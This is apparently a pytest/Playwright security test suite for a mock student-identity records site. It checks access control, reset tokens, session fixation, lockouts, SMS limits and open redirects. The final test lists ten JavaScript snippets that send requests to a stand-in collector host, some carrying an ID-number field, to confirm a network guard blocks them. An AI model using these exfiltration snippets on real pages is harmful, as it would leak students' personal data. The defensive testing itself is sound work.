"""The mock behaves as a site holding students' identities must: no peeking, no guessing, no lingering sessions."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import BrowserContext, Page

from e2e.flows import file_review, log_in, reach_phone_step
from e2e.pages.devices import Phone, Webmail
from e2e.pages.portal import ArchiveHomePage, LoginPage
from e2e.pages.recovery import AccountReviewStatusPage, FindPasswordPage
from fixtures.personas import Persona
from fixtures.students import Given
from harness.actions import click
from harness.checks import expect
from harness.clock import SharedClock
from mock_server import Site, url_for, urls
from mock_server.hosts.account import TGC_COOKIE
from mock_server.hosts.my import SESSION_COOKIE
from mock_server.messages import say
from mock_server.services.throttle import locked_message
from mock_server.words import label

pytestmark = pytest.mark.security


@pytest.fixture
def classmate(given: Given, persona: Persona) -> Persona:
    """Another student of the same school (nothing in common with this test's), enrolled, registered, with a ticket."""
    other = given.classmate(persona)
    given.review_filed(other, keep=other.email)
    return other


def review_due(site: Site, number: str) -> str:
    """The day a filed review is due, as the back office has it."""
    return next(t.due.isoformat() for t in site.back_office.tickets() if t.number == number)


def test_records_page_shows_only_the_logged_in_students_record(
    page: Page, student: Persona, classmate: Persona
) -> None:
    """在学籍网址上加别人的身份证号或姓名，仍只显示本人的学籍"""
    log_in(page, student.email, student.password)
    page.goto(url_for("records_page", sfzh=classmate.id_number, xm=classmate.name, id="1"))
    expect(page.get_by_role("table", name=label("record_table"))).to_contain_text(student.name)
    expect(page.get_by_text(classmate.id_number)).to_have_count(0)
    expect(page.get_by_text(classmate.name, exact=True)).to_have_count(0)


def test_changing_the_ticket_number_does_not_show_anothers_ticket(
    page: Page, site: Site, student: Persona, classmate: Persona
) -> None:
    """受理编号是连续的：换成下一个编号（配本人身份证号）查不到别人的申请"""
    review = file_review(page, student)  # one account is enough to ask for a review
    mine = review.number.inner_text()
    theirs = site.back_office.tickets(classmate.id_number)[0].number
    status = AccountReviewStatusPage(page).open_for(theirs, student.id_number)
    expect(page.get_by_role("alert")).to_have_text(say("review.no_match"))
    expect(status.status).to_have_count(0)
    status.open_for(mine, student.id_number)
    due = review_due(site, mine)
    expect(status.status).to_have_text(say("review.pending", days=site.state.profile.working_days, due=due))


def test_reset_links_are_long_random_and_one_character_off_is_refused(
    page: Page, context: BrowserContext, student: Persona
) -> None:
    """两封重置邮件的链接不同且至少 32 位随机字符；错一个字符的链接被拒绝"""
    mailbox = Webmail(context.new_page())
    links = []
    for _ in range(2):
        page.goto(url_for("find_password"))
        FindPasswordPage(page).send(student.email)
        mailbox.open_inbox(student.email).open_mail(label("reset_subject"))
        links.append(mailbox.link_address())
    tokens = [link.rsplit("token=", 1)[1] for link in links]
    assert tokens[0] != tokens[1] and all(re.fullmatch(r"[\w-]{32,}", token) for token in tokens)
    page.goto(links[1][:-1] + ("B" if links[1].endswith("A") else "A"))
    expect(page.get_by_role("alert")).to_have_text(say("reset.invalid"))


def test_login_issues_a_new_session_and_a_planted_one_grants_nothing(
    page: Page, context: BrowserContext, student: Persona
) -> None:
    """登录前预先放进浏览器的会话号被换掉，之后也打不开任何页面"""
    planted = "0" * 32
    context.add_cookies([{"name": TGC_COOKIE, "value": planted, "url": urls.ACCOUNT}])
    log_in(page, student.email, student.password)
    issued = next(c["value"] for c in context.cookies(urls.ACCOUNT) if c["name"] == TGC_COOKIE)
    assert issued != planted and len(issued) >= 32
    context.clear_cookies()
    context.add_cookies([
        {"name": TGC_COOKIE, "value": planted, "url": urls.ACCOUNT},
        {"name": SESSION_COOKIE, "value": planted, "url": urls.MY},
    ])  # fmt: skip
    page.goto(url_for("archive_home"))
    expect(LoginPage(page).heading).to_be_visible()


def test_logout_ends_the_archive_session(page: Page, student: Persona) -> None:
    """退出后再进学信档案需要重新登录"""
    log_in(page, student.email, student.password)
    click(ArchiveHomePage(page).logout)
    expect(LoginPage(page).heading).to_be_visible()
    page.goto(url_for("archive_home"))
    expect(LoginPage(page).heading).to_be_visible()
    expect(ArchiveHomePage(page).welcome).to_have_count(0)


def test_five_wrong_passwords_lock_the_login_for_30_minutes(page: Page, student: Persona, clock: SharedClock) -> None:
    """连续第 5 次输错密码锁定帐号；30 分钟内连正确密码也被拒绝"""
    login = LoginPage(page).open()
    for _ in range(4):
        login.log_in(student.email, student.password + "x")
        expect(login.status).to_have_text(say("login.wrong"))
    login.log_in(student.email, student.password + "x")
    expect(login.status).to_have_text(locked_message())
    login.log_in(student.email, student.password)
    expect(login.status).to_have_text(locked_message())
    clock.advance(minutes=30)
    login.log_in(student.email, student.password)
    expect(ArchiveHomePage(page).welcome).to_be_visible()


def test_sms_codes_beyond_five_a_day_are_refused(page: Page, persona: Persona, clock: SharedClock) -> None:
    """24 小时内第 6 条校验码被拒绝（用站点原话）；第二天可以再发"""
    form = reach_phone_step(page, persona)
    for _ in range(5):
        form.request_code(persona.phone)
        expect(form.sms_status).to_have_text(say("sms.sent", phone=persona.phone))
        clock.advance(seconds=61)
    form.request_code(persona.phone)
    expect(form.sms_status).to_have_text(say("sms.daily_limit"))
    clock.advance(hours=24)
    form.request_code(persona.phone)
    expect(form.sms_status).to_have_text(say("sms.sent", phone=persona.phone))


def test_five_wrong_codes_void_the_sms_code(page: Page, context: BrowserContext, persona: Persona) -> None:
    """输错 5 次校验码后，连正确的也被拒绝：6 位数字不能靠试"""
    form = reach_phone_step(page, persona)
    form.request_code(persona.phone)
    code = Phone(context.new_page()).open(persona.phone).latest_code()
    wrong = f"{(int(code) + 1) % 10**6:06d}"
    for _ in range(5):
        form.enter_code(wrong)
        expect(form.errors).to_have_text(say("code.wrong"))
    form.enter_code(code)
    expect(form.errors).to_have_text(say("code.too_many"))


def test_login_never_sends_the_student_off_the_site(page: Page, site: Site, student: Persona) -> None:
    """登录链接的 service 指向别处时，登录后仍回到学信档案，票据不出学信网"""
    page.goto(url_for("login", service="https://chsi.example.net/steal"))
    LoginPage(page).log_in(student.email, student.password)
    expect(ArchiveHomePage(page).welcome).to_be_visible()
    expect(page).to_have_url(re.compile(r"^https://my\.chsi\.com\.cn/"))
    assert site.blocked == []


# Every way a page can reach out: a script's request, a subresource, a navigation, a new window.
LEAKS = {
    "fetch": "fetch('https://collector.example.com/p?sfzh=1').catch(() => null)",
    "image": "new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = 'https://collector.example.com/p.gif'; })",
    "redirect": "location.replace('https://collector.example.com/landing')",
    "popup": "void window.open('https://collector.example.com/popup')",
    "xhr": "new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'https://collector.example.com/x'); x.send(); })",
    "stylesheet": "void document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://collector.example.com/s.css'}))",
    "script": "void document.head.append(Object.assign(document.createElement('script'), {src: 'https://collector.example.com/s.js'}))",
    "iframe": "void document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://collector.example.com/frame'}))",
    "form-post": "(() => { const f = Object.assign(document.createElement('form'), {method: 'post', action: 'https://collector.example.com/post'}); document.body.append(f); f.submit(); })()",
    "beacon": "void navigator.sendBeacon('https://collector.example.com/beacon', 'sfzh=1')",
}  # fmt: skip


@pytest.mark.parametrize("kind", list(LEAKS))
def test_network_guard_blocks_and_names_every_way_out(
    page: Page, context: BrowserContext, site: Site, kind: str
) -> None:
    """页面用任何方式访问真实主机，请求都被中止并记下网址"""
    page.goto(f"{urls.WWW}/")
    with (
        site.expect_blocked("collector.example.com") as blocked,
        context.expect_event("requestfailed", lambda request: "collector.example.com" in request.url) as failed,
    ):
        page.evaluate(LEAKS[kind])
    assert (failed.value.failure or "").startswith("net::ERR_BLOCKED_BY_CLIENT")
    assert blocked == [f"{failed.value.method} {failed.value.url}"]
